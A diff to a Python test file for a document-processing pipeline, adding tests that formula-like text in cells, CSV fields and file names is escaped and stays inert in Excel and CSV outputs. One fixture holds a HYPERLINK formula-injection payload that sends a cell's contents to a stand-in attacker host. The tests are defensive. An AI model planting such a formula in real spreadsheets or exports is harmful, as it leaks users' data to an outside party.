@@ -1,6 +1,7 @@
 """What analysts open, built from a real night over the demo inbox (plus one broken upload): the Excel book,
 the calendar, the DuckDB database with `svodka query`/`compare`, and the HTML report rendered in Chromium."""
 
+import csv
 import subprocess
 from datetime import date, timedelta
 from pathlib import Path
@@ -114,6 +115,42 @@ def test_the_same_data_makes_the_same_workbook(night, tmp_path):
     (tmp_path / release.name).mkdir()
     again = write_xlsx(tmp_path / release.name, activities, records)
     assert again.read_bytes() == (release / "activities.xlsx").read_bytes()
+
+
+@pytest.mark.parametrize(("text", "in_csv"), [
+    ("=1+2", "'=1+2"), ("+7 (999) 123-45-67", "'+7 (999) 123-45-67"), ("-ежемесячно", "'-ежемесячно"),
+    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("Срок: до 1 марта", "Срок: до 1 марта"), ("1 = 1", "1 = 1"), ("", ""),
+])
+def test_formula_like_text_is_escaped_for_csv(text, in_csv):
+    from pipeline.outputs.safe_text import csv_safe, is_formula_like
+
+    assert csv_safe(text) == in_csv
+    assert is_formula_like(text) == (text != in_csv)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Подробнее")'
+FORMULA_NAME = "=1+2 план штаба.txt"
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_excel_and_csv(tmp_path):
+    """A cell and a file name starting with «=» (or «+», «-», «@») never become live formulas."""
+    text = (SAMPLES / "inbox" / "kuzbass_2021.txt").read_text(encoding="utf-8")
+    inbox = tmp_path / "inbox"
+    inbox.mkdir()
+    (inbox / FORMULA_NAME).write_text(text.replace("Комплектование состава", FORMULA, 1), encoding="utf-8")
+    run_night([inbox], Settings(out_dir=tmp_path / "out", workers=1))
+    book = openpyxl.load_workbook(tmp_path / "out" / "activities.xlsx")
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    titles = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA)]
+    names = [c for c in cells if c.value == FORMULA_NAME]
+    assert titles and len(names) == 17 + 1, "every activity's «Файл» and the «Документы» row"
+    assert all(c.quotePrefix and c.data_type == "s" for c in titles + names), "marked as text, as Excel does"
+    raw = (tmp_path / "out" / "activities.csv").read_text(encoding="utf-8-sig")
+    rows = list(csv.DictReader(raw.splitlines()))
+    assert rows[0]["title"].startswith("'" + FORMULA) and {r["source_file"] for r in rows} == {"'" + FORMULA_NAME}
+    assert raw.splitlines()[1].startswith('"'), "OWASP: every field quoted"
 
 
 # ---------------------------------------------------------------- iCalendar
